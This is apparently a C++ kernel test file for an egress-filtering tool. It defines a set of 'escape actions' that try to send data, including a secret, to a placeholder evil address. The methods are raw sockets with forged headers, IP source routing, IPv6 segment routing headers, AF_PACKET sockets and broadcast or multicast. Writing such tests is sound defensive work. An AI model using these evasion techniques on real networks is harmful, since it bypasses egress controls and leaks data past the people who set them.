#include <arpa/inet.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <linux/seg6.h>
#include <net/if.h>
#include <netinet/ip.h>

#include <cstring>

#include "tests/kernel/escape_actions.h"
#include "tests/kernel/support/client.h"
#include "tests/kernel/support/network.h"

namespace namewall::kernel_tests {
namespace {

const char kData[] = "data";

SocketAddress allowed4() { return {ip(kAllowed4), 443}; }
SocketAddress allowed6() { return {ip(kAllowed6), 443}; }

// A UDP packet to the evil address, as raw sockets take it.
Bytes evil_packet() {
  Bytes packet(20 + 8 + 4, 0);
  packet[0] = 0x45;
  packet[3] = static_cast<std::uint8_t>(packet.size());
  packet[8] = 64;
  packet[9] = IPPROTO_UDP;
  const auto source = ip("10.77.0.2").v4_bytes(), destination = ip(kEvil4).v4_bytes();
  std::copy(source.begin(), source.end(), packet.begin() + 12);
  std::copy(destination.begin(), destination.end(), packet.begin() + 16);
  unsigned sum = 0;
  for (std::size_t i = 0; i < 20; i += 2) sum += static_cast<unsigned>(packet[i] << 8 | packet[i + 1]);
  while (sum > 0xffff) sum = (sum & 0xffff) + (sum >> 16);
  packet[10] = static_cast<std::uint8_t>(~sum >> 8);
  packet[11] = static_cast<std::uint8_t>(~sum);
  packet[21] = packet[23] = 9;
  packet[25] = 12;
  return packet;
}

// RFC 791: loose (131) or strict (137) source route over the evil address to the destination of the call.
std::array<std::uint8_t, 8> source_route(std::uint8_t kind) {
  const auto hop = ip(kEvil4).v4_bytes();
  return {kind, 7, 4, hop[0], hop[1], hop[2], hop[3], 0};
}

void send_with_source_route(int type, std::uint8_t kind) {
  const auto s = make_socket(AF_INET, type | SOCK_NONBLOCK);
  const auto options = source_route(kind);
  setsockopt(s.get(), IPPROTO_IP, IP_OPTIONS, options.data(), options.size());
  const auto to = allowed4();
  connect(s.get(), to.get(), to.length);
  send(s.get(), kData, sizeof(kData), MSG_NOSIGNAL);
}

void send_raw(int protocol, bool header_included) {
  const auto s = make_socket(AF_INET, SOCK_RAW, protocol);
  const Bytes packet = evil_packet();
  // The header inside says evil, the call says allowed, and the other way round.
  for (const auto& to : {SocketAddress(ip(kEvil4), 0), SocketAddress(ip(kAllowed4), 0)}) {
    if (header_included)
      sendto(s.get(), packet.data(), packet.size(), 0, to.get(), to.length);
    else
      sendto(s.get(), kData, sizeof(kData), 0, to.get(), to.length);
  }
}

// A segment routing header (RFC 8754): first hop evil, last hop allowed.
Bytes segment_routing_header() {
  Bytes header(8 + 32, 0);
  header[1] = 4;  // 40 bytes: (4 + 1) * 8
  header[2] = 4;  // type
  header[3] = 1;  // segments left
  header[4] = 1;  // last entry
  const auto evil = ip(kEvil6).bytes();
  std::copy(evil.begin(), evil.end(), header.begin() + 24);
  return header;
}

void send_over_packet_socket(int type, bool bypass_queue) {
  const auto s = make_socket(AF_PACKET, type, htons(ETH_P_IP));
  const int one = 1;
  if (bypass_queue) setsockopt(s.get(), SOL_PACKET, PACKET_QDISC_BYPASS, &one, sizeof(one));
  sockaddr_ll to{};
  to.sll_family = AF_PACKET;
  to.sll_protocol = htons(ETH_P_IP);
  to.sll_ifindex = static_cast<int>(if_nametoindex(kNearDevice));
  to.sll_halen = 6;
  std::memset(to.sll_addr, 0xff, 6);
  Bytes packet = evil_packet();
  if (type == SOCK_RAW) {
    const Bytes ethernet = {0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 2, 0, 0, 0, 0, 1, 8, 0};
    packet.insert(packet.begin(), ethernet.begin(), ethernet.end());
  }
  sendto(s.get(), packet.data(), packet.size(), 0, reinterpret_cast<sockaddr*>(&to), sizeof(to));
}

}  // namespace

std::vector<EscapeAction> packet_escapes() {
  std::vector<EscapeAction> actions;
  actions.push_back({"raw-icmp", [] { send_raw(IPPROTO_ICMP, false); }});
  actions.push_back({"raw-ip", [] { send_raw(IPPROTO_RAW, true); }});
  actions.push_back({"raw-protocol-253", [] { send_raw(253, false); }});
  actions.push_back({"raw6", [] {
                       const SocketAddress to(ip(kEvil6), 0);
                       sendto(make_socket(AF_INET6, SOCK_RAW, 253).get(), kData, sizeof(kData), 0, to.get(), to.length);
                     }});
  actions.push_back({"udp-loose-source-route", [] { send_with_source_route(SOCK_DGRAM, 131); }});
  actions.push_back({"udp-strict-source-route", [] { send_with_source_route(SOCK_DGRAM, 137); }});
  actions.push_back({"tcp-loose-source-route", [] { send_with_source_route(SOCK_STREAM, 131); }});
  actions.push_back({"source-route-set-when-connected", [] {
                       const auto s = make_socket(AF_INET, SOCK_STREAM);
                       const auto to = allowed4();
                       const timeval soon{0, 300'000};
                       setsockopt(s.get(), SOL_SOCKET, SO_SNDTIMEO, &soon, sizeof(soon));
                       connect(s.get(), to.get(), to.length);
                       const auto options = source_route(131);
                       setsockopt(s.get(), IPPROTO_IP, IP_OPTIONS, options.data(), options.size());
                       send(s.get(), kData, sizeof(kData), MSG_NOSIGNAL);
                     }});
  actions.push_back({"retopts-control", [] {
                       const auto s = make_socket(AF_INET, SOCK_DGRAM);
                       auto to = allowed4();
                       const auto options = source_route(131);
                       iovec part{const_cast<char*>(kData), sizeof(kData)};
                       alignas(cmsghdr) char control[64] = {};
                       msghdr message{};
                       message.msg_name = to.get();
                       message.msg_namelen = to.length;
                       message.msg_iov = &part;
                       message.msg_iovlen = 1;
                       message.msg_control = control;
                       message.msg_controllen = CMSG_SPACE(options.size());
                       cmsghdr* header = CMSG_FIRSTHDR(&message);
                       header->cmsg_level = IPPROTO_IP;
                       header->cmsg_type = IP_RETOPTS;
                       header->cmsg_len = CMSG_LEN(options.size());
                       std::memcpy(CMSG_DATA(header), options.data(), options.size());
                       sendmsg(s.get(), &message, 0);
                     }});
  actions.push_back({"segment-routing-header", [] {
                       for (const int type : {SOCK_DGRAM, SOCK_STREAM}) {
                         const auto s = make_socket(AF_INET6, type | SOCK_NONBLOCK);
                         const Bytes header = segment_routing_header();
                         setsockopt(s.get(), IPPROTO_IPV6, IPV6_RTHDR, header.data(),
                                    static_cast<socklen_t>(header.size()));
                         const auto to = allowed6();
                         connect(s.get(), to.get(), to.length);
                         send(s.get(), kData, sizeof(kData), MSG_NOSIGNAL);
                       }
                     }});
  actions.push_back({"broadcast", [] {
                       const auto s = make_socket(AF_INET, SOCK_DGRAM);
                       const int one = 1;
                       setsockopt(s.get(), SOL_SOCKET, SO_BROADCAST, &one, sizeof(one));
                       for (const char* address : {"255.255.255.255", "10.77.0.255"}) {
                         const SocketAddress to(ip(address), 443);
                         sendto(s.get(), kSecret, sizeof(kSecret), 0, to.get(), to.length);
                       }
                     }});
  actions.push_back({"multicast", [] {
                       for (const char* address : {"239.1.2.3", "ff02::1234"}) {
                         SocketAddress to(ip(address), 443);
                         if (to.family() == AF_INET6) {
                           reinterpret_cast<sockaddr_in6&>(to.storage).sin6_scope_id = if_nametoindex(kNearDevice);
                         }
                         const auto s = make_socket(to.family(), SOCK_DGRAM);
                         sendto(s.get(), kSecret, sizeof(kSecret), 0, to.get(), to.length);
                       }
                     }});
  actions.push_back({"af-packet-raw", [] { send_over_packet_socket(SOCK_RAW, false); }, true});
  actions.push_back({"af-packet-dgram", [] { send_over_packet_socket(SOCK_DGRAM, false); }, true});
  actions.push_back({"af-packet-qdisc-bypass", [] { send_over_packet_socket(SOCK_RAW, true); }, true});
  return actions;
}

}  // namespace namewall::kernel_tests
